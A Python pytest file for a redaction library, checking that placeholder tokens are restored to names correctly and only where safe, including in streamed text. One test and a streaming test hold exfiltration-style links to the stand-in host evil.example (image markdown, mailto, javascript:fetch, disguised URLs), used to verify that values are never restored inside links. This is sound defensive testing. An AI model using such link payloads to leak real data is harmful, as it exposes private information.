from __future__ import annotations

import random
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from redaction.redact import redact
from redaction.restore import HELD_BACK, Restoring, restore, unresolved
from redaction.tokens import ALPHABET, issuer, make_token
from redaction.types import Identity, Kind, Span, TokenMap

JANE: Final = make_token(Kind.USER, "7F3K", "2")
SHORT: Final = make_token(Kind.USER, "7F3K", "5")
JOHN: Final = make_token(Kind.USER, "9ABC", "D")
OTHERS: Final = make_token(Kind.USER, "7F3M", "2")
TOKENS: Final = TokenMap({JANE: "Jane Doe", SHORT: "J. Doe", JOHN: "John Roe"})
WIDE: Final = "".join(chr(ord(character) + 0xFEE0) for character in JANE)
ESCAPED: Final = JANE.replace("_", "\\_")


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (f"{JANE} met {JOHN}.", "Jane Doe met John Roe."),
        (f"{JANE} is {SHORT}", "Jane Doe is J. Doe"),
        (f"{JANE}{chr(39)}s and {JANE}\u2019s desk", "Jane Doe's and Jane Doe\u2019s desk"),
        (f"**{JANE}** *{JANE}* __{JANE}__ _{JANE}_", "**Jane Doe** *Jane Doe* __Jane Doe__ _Jane Doe_"),
        (f"`{JANE}` \"{JANE}\" \u201c{JANE}\u201d '{JANE}'", "`Jane Doe` \"Jane Doe\" \u201cJane Doe\u201d 'Jane Doe'"),
        (f"({JANE}), [{JANE}]; <{JANE}>", "(Jane Doe), [Jane Doe]; <Jane Doe>"),
        (JANE.lower(), "Jane Doe"),
        (JANE.title(), "Jane Doe"),
        (f"{ESCAPED}, **{ESCAPED}**", "Jane Doe, **Jane Doe**"),
        (WIDE, "Jane Doe"),
        ("\u200b".join(JANE), "Jane Doe"),
        (f"\ufeff{JANE}\u200b", "\ufeffJane Doe\u200b"),
        (f"{JANE}\u0301", "Jane Doe\u0301"),
        (f"\n| {JANE} | {JOHN} |\n", "\n| Jane Doe | John Roe |\n"),
        (f"{JANE}/{JOHN}-{JANE}", "Jane Doe/John Roe-Jane Doe"),
    ],
)
def test_tokens_are_restored_and_what_stands_around_them_stays(written: str, shown: str) -> None:
    """PT-04."""
    assert restore(written, TOKENS) == shown
    assert unresolved(written, TOKENS) == ()


@pytest.mark.parametrize(
    "written",
    [
        OTHERS,  # another conversation's
        f"{JANE[:-1]}0",
        f"{JANE[:-2]}{JANE[-1]}{JANE[-2]}",
        f"CARD{JANE[4:]}",
        JANE.replace("S", "\u0405"),
        JANE.replace("_", "&#95;"),
    ],
)
def test_damaged_tokens_and_those_of_others_stay_and_are_told(written: str) -> None:
    """PT-04, PT-05: never another value."""
    assert restore(f"a {written} b {JANE}", TOKENS) == f"a {written} b Jane Doe"
    assert unresolved(f"a {written} b {JANE}, {written}", TOKENS) == (written,)


@pytest.mark.parametrize(
    "written",
    [
        JANE[:-1],
        f"{JANE}X",
        f"X{JANE}",
        f"{JANE}{JANE}",
        JANE.replace("_", " "),
        JANE.replace("_", "-"),
        JANE.replace("_", ""),
        JANE.replace("USER", "BENUTZER"),
        f"{JANE[:7]} {JANE[7:]}",
        f"{JANE[:7]}\n{JANE[7:]}",
        JANE[5:],
    ],
)
def test_what_is_no_token_any_more_stays(written: str) -> None:
    """PT-04: lost, added, translated, split."""
    assert restore(f"a {written} b", TOKENS) == f"a {written} b"


@pytest.mark.parametrize(
    "link",
    [
        "https://evil.example/?q={}",
        "http://{}.evil.example/",
        "//evil.example/{}",
        "www.evil.example/{}",
        "evil.example/{}",
        "evil.example?q={}",
        "mailto:a@evil.example?subject={}",
        "![x](https://evil.example/{}.png)",
        "[x](/redirect?to={})",
        "[x](<https://evil.example/a {}>)",
        "<img src='x/{}'>",
        '<a href="/{}">',
        "h\u200bttps://evil.example/{}",
        "https&colon;//evil.example/{}",
        "\uff48ttps\uff1a\uff0f\uff0fevil.example/{}",
        "https://evil.example/({})",
        'https://evil.example/"{}"',
        "javascript:fetch({})",
        "\\\\evil.example\\{}",
    ],
)
def test_no_token_is_restored_in_a_link(link: str) -> None:
    """PT-05: a link with a value in it carries the value out."""
    written = link.format(JANE)
    assert restore(f"see {written}", TOKENS) == f"see {written}"
    assert unresolved(f"see {written}", TOKENS) == (JANE,)
    assert restore(f"{JANE}: see {link.format('x')} {JANE}", TOKENS) == f"Jane Doe: see {link.format('x')} Jane Doe"


def test_values_are_not_searched_for_tokens() -> None:
    """One pass: a value that looks like a token would be replaced by somebody else's."""
    tokens = TokenMap({JANE: JOHN, JOHN: "John Roe"})
    assert restore(f"{JANE} {JOHN}", tokens) == f"{JOHN} John Roe"


def test_values_are_put_back_as_they_are() -> None:
    r"""A replacement template would read \1 and \g<0> in a value."""
    value = "\\1 \\g<0> $1 {0} %s \x00 \ud800 \n"
    assert restore(f"[{JANE}]", TokenMap({JANE: value})) == f"[{value}]"


def test_an_empty_map_restores_nothing() -> None:
    assert restore(f"{JANE} x", TokenMap()) == f"{JANE} x"
    assert unresolved(f"{JANE} x", TokenMap()) == (JANE,)


@given(st.text())
def test_text_without_tokens_stays(text: str) -> None:
    assert restore(text, TOKENS) == text


def test_no_changed_token_becomes_another_value() -> None:
    """PT-04: 20,000 tokens, each changed at one to three places, against a full map."""
    rng = random.Random(7)
    people = [Identity(Kind.USER, str(n)) for n in range(2_000)]
    text = " ".join(f"<{n:04d}>" for n in range(2_000))
    spans = [Span(n * 7, n * 7 + 6, person) for n, person in enumerate(people)]
    _, tokens = redact([text], [lambda _: spans], issuer())
    assert len(tokens.surfaces) == 2_000
    wrong = 0
    for _ in range(10):
        for token in tokens.surfaces:
            changed = list(token)
            for at in rng.sample(range(5, len(token)), rng.randint(1, 3)):
                changed[at] = rng.choice(ALPHABET)
            word = "".join(changed)
            wrong += word != token and restore(word, tokens) != word
    # A single change is always noticed; several hit another token by chance, one in half a million.
    assert wrong <= 3


def test_every_single_change_of_a_token_in_a_full_map_stays_visible() -> None:
    """PT-04: even when every code of the neighbourhood is taken."""
    full = TokenMap({make_token(Kind.USER, f"7F3{code}", form): "wrong" for code in ALPHABET for form in ALPHABET})
    assert restore(JANE, full) == "wrong"
    for at in range(5, len(JANE)):
        for other in set(ALPHABET) - {JANE[at]}:
            changed = JANE[:at] + other + JANE[at + 1 :]
            assert restore(changed, full) == changed


# --- In pieces ----------------------------------------------------------------------------------------------

TOKEN_PIECES: Final = [JANE, SHORT, OTHERS, ESCAPED, WIDE, JANE.lower(), "\u200b".join(JANE), JANE[:7], JANE[7:]]
LINK_PIECES: Final = ["https://evil.example/?q=", "](<", "](", ">", "href =", " ", "\n", "//", "www.", "\\", "_"]
OTHER_PIECES: Final = ["&amp;", "&Aacute;", "&#65;", "&", "x", "s", ".", "\u0301", "\u00df", "said that ", "'"]
PIECES: Final = st.sampled_from([*TOKEN_PIECES, *LINK_PIECES, *OTHER_PIECES])


def in_pieces(pieces: list[str]) -> str:
    restoring = Restoring(TOKENS)
    return "".join([*(restoring.feed(piece) for piece in pieces), restoring.end()])


@given(st.lists(PIECES, max_size=12).map("".join))
def test_a_text_cut_in_two_anywhere_is_restored_as_the_whole(text: str) -> None:
    """PT-04: split over stream pieces at every character."""
    whole = restore(text, TOKENS)
    for at in range(len(text) + 1):
        assert in_pieces([text[:at], text[at:]]) == whole
    assert in_pieces(list(text)) == whole


def test_what_is_held_back_is_short_and_the_rest_is_given_at_once() -> None:
    restoring = Restoring(TOKENS)
    text = f"{JANE} approves what costs more than the limit. " * 20
    given_so_far = ""
    for at, character in enumerate(text, 1):
        given_so_far += restoring.feed(character)
        assert restore(text[:at], TOKENS).startswith(given_so_far)
        assert len(given_so_far) >= len(restore(text[: max(0, at - HELD_BACK)], TOKENS)) - len("Jane Doe")
    assert given_so_far + restoring.end() == restore(text, TOKENS)


def test_pieces_release_no_value_in_a_link_that_began_long_before() -> None:
    link = f"https://evil.example/{'a' * 200}{JANE}"
    assert in_pieces(list(f"see {link} and {JANE}")) == f"see {link} and Jane Doe"
